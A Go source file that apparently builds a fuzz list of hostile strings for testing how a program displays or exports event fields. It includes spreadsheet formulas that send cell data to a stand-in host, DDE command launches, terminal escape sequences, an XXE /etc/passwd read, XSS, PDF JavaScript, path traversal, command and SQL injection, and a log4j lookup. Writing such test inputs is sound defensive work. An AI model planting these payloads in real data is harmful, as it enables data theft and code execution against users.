package main

import (
	"fmt"
	"strings"
)

// payloads are texts that somebody who makes calls could put into a field of an event, so that a program that shows it does
// something. The marks zq and example are in many of them, so that they are found again. \uE000 stands for half a surrogate pair.
var payloads = payloadList()

func payloadList() (all []string) {
	add := func(p ...string) { all = append(all, p...) }
	formulas := []string{
		`HYPERLINK("http://zq.example/"&A1,"zq")`, `cmd|' /C calc'!A0`, `WEBSERVICE("http://zq.example/"&A1)`,
		`IMPORTXML("http://zq.example/","//a")`, `DDE("cmd";"/C calc";"zq")`,
		`1+1`, `SUM(A1:A9)*zq`, `rundll32|'URL.dll,OpenURL zq.example'!A`, `INDIRECT("zq!A1")`,
	}
	for _, sign := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "%3D"} {
		for _, f := range formulas {
			add(sign + f)
		}
	}
	for _, before := range []string{"", " ", "'", `"`, ",", ";", "\ufeff", "\u200b", "\u00a0", `","`, "\x00", "''"} {
		add(before+"=zq(1)", before+"=1+1"+before, before+"@zq")
	}
	add("=", "+", "-", "@", "-5", "+49 30 1234", "=@", "\t", "'", "-zq", "--", "@@")
	// A screen: colours, links, the clipboard, the title, character sets, the cursor, questions that it answers as if typed.
	for _, s := range []string{
		"\x1b[35mzq\x1b[0m", "\x1b[38;5;201mzq", "\x1b]8;;http://zq.example\x07zq\x1b]8;;\x07", "\x1b]52;c;enE=\x07",
		"\x1b]0;zq\x07", "\x1b]2;zq\x1b\\", "\x1bP$qzq\x1b\\", "\x1b[2J\x1b[H", "\x1b[1Azq", "\x1b[6n", "\x1b[c", "\x1b[5i",
		"\x1b(0zq", "\x1bc", "\x1b#8", "\x1b[?1049h", "\x1b[?25l", "\x1b_zq\x1b\\", "\x1b^zq\x1b\\", "\u009b31mzq",
		"\u009d0;zq\u009c", "\u0090zq", "zq\x07\x07", "zq\b\b\bok", "zq\rok", "zq\x7f\x7f", "zq\x0e\x0f", "\x1b", "\x1b[",
		"zq\x1b",
	} {
		add(s)
	}
	for _, r := range []rune{
		0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c,
		0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x3164, 0xe0041, 0x2028, 0x2029, 0x0085, 0x034f,
	} {
		add("zq" + string(r) + "gpj.exe")
	}
	// What XML cannot hold, and what an escape of a workbook looks like.
	for c := range 0x20 {
		add(fmt.Sprintf("zq%cx", c))
	}
	add(
		"zq\ufffe", "zq\uffff", "\U0001fffe", "\uE000", "zq\uE000\uE000", "_x0041_zq", "_x000D_", "_x0000_", "_xD83D_", "]]>zq",
		"<![CDATA[zq]]>", "<!-- zq", "&#x0;", "&zq;", "&amp;lt;", `<?xml version="1.0"?>`,
		`<!DOCTYPE zq [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`, "<f>1+1</f>", `</t></is></c>`, `<c r="A1"><f>zq()</f></c>`,
	)
	add(
		"<script>alert('zq')</script>", "<img src=x onerror=alert(1)>", "javascript:alert('zq')", "data:text/html,<b>zq",
		"vbscript:zq", "file:///etc/passwd", "http://zq.example/", "https://zq.example/?q=1&r=2", "mailto:zq@example.com",
		"ftp://zq.example", `\\zq.example\share`, "ms-excel:ofe|u|http://zq.example", "ldap://zq.example/a", "www.zq.example",
		"#'Cover'!A1", "internal:zq!A1", "<a href=http://zq.example>zq</a>", "<svg onload=zq>", `" onmouseover="zq`,
	)
	add(
		") Tj (zq", "zq\\", "((((zq", "))))zq", "zq) /JS (app.alert(1)) (", "/URI (http://zq.example)",
		"<< /OpenAction << /S /JavaScript >> >>", "endstream endobj 1 0 obj << /JS (zq) >>", "%PDF-1.7",
		"trailer << /Root 1 0 R >>", "startxref\n0\n%%EOF", "\\050zq\\051", "<FEFF007A0071>", "BT /F1 12 Tf ET", "EMC",
		"/Launch /Win << /F (calc.exe) >>",
	)
	add(
		"../../../../etc/passwd", `..\..\windows\win.ini`, "/etc/shadow", `C:\zq`, `\\?\C:\zq`, "CON", "NUL.txt", "~/zq",
		"$HOME/zq", "%TEMP%\\zq", ".", "..", "a/b/../c", "zq.csv", "zq:stream", "-rf", "*", "zq|id", ">zq", "file%2f..%2f",
	)
	add(
		"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{open}", "{rows}", "{0}", "{", "}", "{{", "{{.}}", "%s%n%d", "%!d(zq)",
		"$(id)", "`id`", "{% raw %}", "${jndi:ldap://zq.example/a}", "{count, plural, one {zq}}", ":period_from", "?", "$1",
		"@zq@", "\\u0041", "\\x1b[31m", "**zq**", "[zq](http://zq.example)", "# zq", "| zq |", "<zq>", "~~zq~~",
	)
	add(
		"'", "''", "'; DROP TABLE events; --", "' OR '1'='1", "\\'", "/* zq */", "-- zq", `"; SELECT 1`, "E'\\x00'", "$$zq$$",
		"zq;", "0x7a71",
	)
	add(
		"מרחבא zq", "مرحبا zq", "账户管理员 😀", "👩‍👩‍👧‍👦", "z̷̢̛q̸̡"+strings.Repeat("\u0301", 60), "e\u0301", "é", "\u2126Ω",
		"𝓏𝓆", "\ue123", "ﬁzq", "İı", "ǅ", "\U0010fffd", strings.Repeat("zq", 3000), strings.Repeat("W", 300),
		strings.Repeat("中", 500), strings.Repeat("a b ", 400),
	)
	add(
		"a,b", `"a"`, `a"b`, "a\nb", "a\r\nb", "a\n\n\nb", ";", "\t\t", "\n", " ", "", "null", "NaN", "1e999", "0", "TRUE",
		"2026-10-30", "1/2", "00123", "1E5",
	)
	return all
}
